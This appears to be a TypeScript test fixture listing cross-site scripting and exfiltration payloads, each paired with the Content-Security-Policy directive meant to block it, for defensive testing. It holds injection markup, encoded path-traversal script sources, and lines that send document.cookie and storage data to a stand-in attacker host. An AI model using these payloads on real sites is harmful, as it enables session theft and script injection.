/** Where an attack's own server is, and a script of the product's own that stands on the bundle path. */
export interface Place {
  evil: string
  script: string
  style: string
}

export interface Injection {
  name: string
  /** The directive that says no, or 'load' where the file is not taken; null where only the console tells. */
  stops: RegExp | null
  /** Markup that got into the page. */
  html?: (place: Place) => string
  /** Code that already runs, as a file on the bundle path. */
  code?: (place: Place) => string
  /** Pressed where it waits for somebody. */
  press?: string
}

const WRONG_HASH = `sha384-${'A'.repeat(64)}`
const NOT_LOADED = /^load$/m
const RUNS = /^script-src/m

const MARKUP: readonly Injection[] = [
  { name: 'a script in the page', stops: RUNS, html: () => '<script>hurt()</script>' },
  { name: 'a module in the page', stops: RUNS, html: () => '<script type="module">hurt()</script>' },
  {
    name: 'an import map',
    stops: RUNS,
    html: ({ evil }) => `<script type="importmap">{"imports":{"/":"${evil}/"}}</script>`,
  },
  { name: 'an event handler', stops: RUNS, html: () => '<img src="data:," onerror="hurt()">' },
  { name: 'a handler in SVG', stops: RUNS, html: () => '<svg onload="hurt()"></svg>' },
  { name: 'a script in SVG', stops: RUNS, html: () => '<svg><script>hurt()</script></svg>' },
  {
    name: 'a link that runs',
    stops: RUNS,
    html: () => '<a id="press" href="javascript:hurt()">x</a>',
    press: '#press',
  },
  {
    name: 'a script from elsewhere',
    stops: RUNS,
    html: ({ evil }) => `<script src="${evil}/x.js"></script>`,
  },
  {
    name: 'a script in an address',
    stops: RUNS,
    html: () => '<script src="data:text/javascript,hurt()"></script>',
  },
  {
    name: 'answers of the API as a script',
    stops: RUNS,
    html: () => '<script src="/api/remotes?callback=hurt"></script>',
  },
  {
    name: 'the way out of the bundle path',
    stops: RUNS,
    html: () => '<script src="/bundles/%2e%2e/api/remotes?callback=hurt"></script>',
  },
  {
    name: 'the hidden way out of the bundle path',
    stops: NOT_LOADED,
    html: () => '<script src="/bundles/..%2fapi%2fremotes?callback=hurt"></script>',
  },
  {
    name: 'what is no script, on the bundle path',
    stops: NOT_LOADED,
    html: ({ style }) => `<script src="${style}"></script>`,
  },
  {
    name: 'a script with a wrong hash',
    stops: NOT_LOADED,
    html: ({ script }) =>
      `<script src="${script}" integrity="${WRONG_HASH}" crossorigin="anonymous"></script>`,
  },
  { name: 'another base', stops: /^base-uri/m, html: ({ evil }) => `<base href="${evil}/">` },
  {
    name: 'a form to elsewhere',
    stops: /^form-action/m,
    html: ({ evil }) => `<form action="${evil}/form"><button id="press">x</button></form>`,
    press: '#press',
  },
  { name: 'a frame', stops: /^frame-src/m, html: ({ evil }) => `<iframe src="${evil}/frame"></iframe>` },
  {
    name: 'a frame with a script of its own',
    stops: null,
    html: () => `<iframe srcdoc="<script>parent.hurt()</script>"></iframe>`,
  },
  { name: 'an object', stops: /^object-src/m, html: ({ evil }) => `<object data="${evil}/object"></object>` },
  { name: 'an embedded thing', stops: /^object-src/m, html: ({ evil }) => `<embed src="${evil}/embed">` },
  {
    name: 'rules that ask elsewhere',
    stops: /^style-src/m,
    html: ({ evil }) => `<style>body { background: url(${evil}/style) }</style>`,
  },
  {
    name: 'a style sheet from elsewhere',
    stops: /^style-src/m,
    html: ({ evil }) => `<link rel="stylesheet" href="${evil}/x.css">`,
  },
  {
    name: 'a style that asks elsewhere',
    stops: /^style-src/m,
    html: ({ evil }) => `<p style="background: url(${evil}/attribute)">x</p>`,
  },
  {
    name: 'a picture from elsewhere',
    stops: /^img-src/m,
    html: ({ evil }) => `<img src="${evil}/x.png" alt="">`,
  },
  {
    name: 'a film from elsewhere',
    stops: /^media-src/m,
    html: ({ evil }) => `<video src="${evil}/x.mp4"></video>`,
  },
  {
    name: 'a script without a hash, on the bundle path',
    stops: NOT_LOADED,
    html: ({ script }) => `<script src="${script}?again"></script>`,
  },
]

const CODE: readonly Injection[] = [
  { name: 'eval', stops: RUNS, code: () => `eval('hurt()')` },
  { name: 'new Function', stops: RUNS, code: () => `new Function('hurt()')()` },
  { name: 'a timer of text', stops: RUNS, code: () => `setTimeout('hurt()')` },
  {
    name: 'WebAssembly',
    stops: RUNS,
    code: () => `WebAssembly.compile(new Uint8Array([0,97,115,109,1,0,0,0])).then(() => hurt(), () => {})`,
  },
  { name: 'an import of text', stops: RUNS, code: () => `import('data:text/javascript,hurt()')` },
  { name: 'an import from elsewhere', stops: RUNS, code: ({ evil }) => `import('${evil}/x.js')` },
  {
    name: 'an import of a blob',
    stops: RUNS,
    code: () => `import(URL.createObjectURL(new Blob(['hurt()'], { type: 'text/javascript' })))`,
  },
  {
    name: 'a script element of text',
    stops: RUNS,
    code: () => `document.body.append(Object.assign(document.createElement('script'), { text: 'hurt()' }))`,
  },
  {
    name: 'markup with a handler',
    stops: RUNS,
    code: () => `document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="hurt()">')`,
  },
  { name: 'an address that runs', stops: RUNS, code: () => `location.href = 'javascript:hurt()'` },
  {
    name: 'a worker of text',
    stops: /^worker-src/m,
    code: () => `new Worker(URL.createObjectURL(new Blob(['fetch("/api/remotes")'])))`,
  },
  {
    name: 'a worker that stays',
    stops: null,
    code: ({ script }) =>
      `navigator.serviceWorker.register('${script}').then(() => hurt(), ({ message }) => console.error(message))`,
  },
  {
    name: 'a call elsewhere',
    stops: /^connect-src/m,
    code: ({ evil }) => `fetch('${evil}/call?' + document.cookie).catch(() => {})`,
  },
  {
    name: 'a last call elsewhere',
    stops: /^connect-src/m,
    code: ({ evil }) => `navigator.sendBeacon('${evil}/beacon', 'x')`,
  },
  {
    name: 'a socket elsewhere',
    stops: /^connect-src/m,
    code: ({ evil }) => `new WebSocket('${evil.replace('http', 'ws')}/socket')`,
  },
  {
    name: 'a stream from elsewhere',
    stops: /^connect-src/m,
    code: ({ evil }) => `new EventSource('${evil}/events')`,
  },
  {
    name: 'a picture as a message',
    stops: /^img-src/m,
    code: ({ evil }) => `new Image().src = '${evil}/pixel?' + localStorage.length`,
  },
  {
    name: 'a font as a message',
    stops: /^font-src/m,
    code: ({ evil }) => `new FontFace('x', 'url(${evil}/font)').load().catch(() => {})`,
  },
  {
    name: 'a frame as a message',
    stops: /^frame-src/m,
    code: ({ evil }) =>
      `document.body.append(Object.assign(document.createElement('iframe'), { src: '${evil}/frame' }))`,
  },
]

/** What scripts are injected by, each with what stops it. */
export const INJECTIONS: readonly Injection[] = [...MARKUP, ...CODE]
